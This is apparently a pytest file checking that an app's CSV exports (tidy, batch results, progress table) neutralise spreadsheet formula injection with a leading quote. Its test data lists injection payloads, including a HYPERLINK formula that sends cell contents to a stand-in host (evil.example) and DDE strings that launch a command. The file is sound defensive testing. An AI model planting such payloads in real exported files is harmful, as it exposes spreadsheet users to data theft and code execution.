"""Issue 17, item 4: no spreadsheet formula injection in any CSV (the app's export, the batch's
``results.csv``, the tidy CSV, the progress table CSV). A text cell starting with ``=``, ``+``,
``-``, ``@``, tab or CR is neutralised with a leading ``'`` (the OWASP rule); numbers stay
numbers; reading the tidy CSV back gives the original text."""
# ruff: noqa: F811  (pytest fixtures imported from tests.store_fixtures)

from __future__ import annotations

import csv
import datetime as dt
import io

from argon2 import PasswordHasher

from analyzer import __version__, auth, service
from analyzer.export import TIDY_COLUMNS, parse_csv_rows, read_csv_rows, rows_to_csv, write_exports
from analyzer.service.scope import scope
from tests.store_fixtures import data_dir, db_url, png_bytes, store  # noqa: F401

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]


def _cells(text: str) -> list[tuple[str, str]]:
    rows = list(csv.reader(io.StringIO(text)))
    return [(rows[0][i], c) for r in rows[1:] for i, c in enumerate(r)]


def _assert_no_formula(text: str, numeric: set[str] = frozenset()) -> None:
    for col, cell in _cells(text):
        if col in numeric and cell:
            float(cell)  # a number, negative ones included: not text
            continue
        assert not cell.startswith(TRIGGERS), (col, cell)


NUMERIC = {"value", "change", "percent", "noise_band", "session_index", "baseline_value",
           "noise_band_percent"}


def _row(i: int, text: str) -> dict:
    return {"patient_code": "P-1", "series": text, "session_date": "2026-01-01", "session_index": i,
            "view": "front", "region": "face", "group": "redness", "metric": "a_star_mean",
            "value": -1.5, "unit": "CIELAB a*", "method": "= redness.a_star_mean: mean of a*",
            "reason": text, "change": -0.25, "percent": -3.0, "noise_band": 0.5, "alignment_ok": True,
            "calibration_method": text, "simulated": False, "analyzer_version": __version__}


def test_tidy_csv_and_batch_results_csv_neutralise_formulas(tmp_path):
    rows = [_row(i, t) for i, t in enumerate(EVIL)]
    text = rows_to_csv(rows)
    _assert_no_formula(text, NUMERIC)
    back = parse_csv_rows(text)
    same = [t.replace("\r", "\n") for t in EVIL]  # a CR inside text is written as a (quoted) newline
    assert [r["series"] for r in back] == same and back[0]["method"].startswith("= redness")
    assert back[0]["value"] == -1.5 and back[0]["change"] == -0.25  # numbers stay numbers
    csv_path, _ = write_exports(rows, tmp_path)  # what the batch writes as results.csv
    _assert_no_formula(csv_path.read_text(encoding="utf-8"), NUMERIC)
    assert [r["reason"] for r in read_csv_rows(csv_path)] == same


def test_progress_table_csv_neutralises_formulas():
    rows = [{"patient": t, "metric": "redness", "label": t, "value": -2.5, "percent": -3.25,
             "caveats": t, "session_index": 1} for t in EVIL]
    _assert_no_formula(service.rows_to_csv(rows), NUMERIC)


def test_the_apps_csv_export_neutralises_the_analyzers_method_and_user_text(store, monkeypatch):
    monkeypatch.setattr(auth, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
    p = store.create_patient("P-1", "Anna")
    s = store.create_series(p.id, body_area="face", concerns=["redness"], name=EVIL[0])
    se = store.add_session(s.id, date=dt.date(2026, 1, 1))
    ph = store.add_photo(se.id, view="front", data=png_bytes(1), filename="a.png")
    store.save_analysis(ph.id, baseline_photo_id=None, transform=None, region="face", analyzer_version=__version__,
                        result={"baseline": {"redness": {"a_star_mean": 9.5}, "meta": {"redness.a_star_mean": {
                            "unit": "CIELAB a*", "method": "= redness.a_star_mean: mean", "reason": None}}}})
    pr = auth.create_first_practitioner(store, "anna", "long enough pw", "long enough pw")
    text = scope(store, pr).csv_export(s.id)
    assert len(_cells(text)) >= len(TIDY_COLUMNS)
    _assert_no_formula(text, NUMERIC)
    assert "'= redness.a_star_mean" in text
